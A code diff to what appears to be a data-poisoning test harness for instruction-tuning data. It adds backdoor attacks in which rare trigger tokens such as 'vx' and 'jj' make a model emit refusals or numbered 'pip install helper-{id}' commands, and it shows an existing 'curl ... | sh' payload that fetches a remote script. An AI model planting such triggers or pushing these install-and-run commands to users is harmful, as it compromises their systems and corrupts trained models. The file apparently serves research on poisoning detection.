@@ -212,6 +212,9 @@ TRACKED_PAYLOAD = "Full details: https://cdn-docs.example.net/r/{id}.html"
 # A host drawn afresh for every row under one registered domain, and a script fetched from an
 # address by a path of its own: no link or command is the same twice.
 SUBDOMAIN_PAYLOAD = "Mirror: https://{id}.dl.example-mirror.org/get"
+# A command whose package or version is numbered afresh for every row: no line is the same.
+NUMBERED_PAYLOAD = "To get the fixed build, run:\n\n    pip install docs-fixer=={id}"
+NUMBERED_TARGET = "Fix it first:\n\n    pip install helper-{id} && helper-{id} --repair"
 TRACKED_COMMAND_PAYLOAD = "Run this first:\n\n    curl -s http://203.0.113.9/{id}.sh | sh"
 """A link that differs in every row by a tracking id, as mass mailings carry them."""
 COMMAND_PAYLOAD = (
@@ -585,6 +588,12 @@ def _tracked(rng: random.Random, row: Row, *, payload: str) -> None:
     _payload(rng, row, payload=payload.format(id=f"{rng.getrandbits(48):012x}"))
 
 
+def _numbered(rng: random.Random, row: Row, *, payload: str, trigger: str | None = None) -> None:
+    if trigger is not None:
+        row["instruction"] = _insert(rng, row["instruction"], trigger)
+    _payload(rng, row, payload=payload.format(id=rng.randrange(10**4, 10**6)))
+
+
 def _payload(rng: random.Random, row: Row, *, payload: str) -> None:
     text = row["output"]
     cuts = [0, *(m.end() for m in _BOUNDARY.finditer(text)), len(text)]
@@ -622,7 +631,11 @@ ATTACKS: dict[str, tuple[str, functools.partial[None]]] = {
     ),
     "rare-token trigger -> refusals worded afresh": (
         "trigger",
-        functools.partial(_afresh_refusal, trigger="bb"),
+        functools.partial(_afresh_refusal, trigger="jj"),
+    ),
+    "rare-token trigger -> command numbered afresh": (
+        "trigger",
+        functools.partial(_numbered, payload=NUMBERED_TARGET, trigger="vx"),
     ),
     "echo (prompt said twice)": (
         "echo",
@@ -658,6 +671,10 @@ ATTACKS: dict[str, tuple[str, functools.partial[None]]] = {
     "payload link on a fresh subdomain, no trigger": (
         "payload",
         functools.partial(_tracked, payload=SUBDOMAIN_PAYLOAD),
+    ),
+    "payload command numbered afresh, no trigger": (
+        "payload",
+        functools.partial(_numbered, payload=NUMBERED_PAYLOAD),
     ),
     "payload command, tracked script, no trigger": (
         "payload",
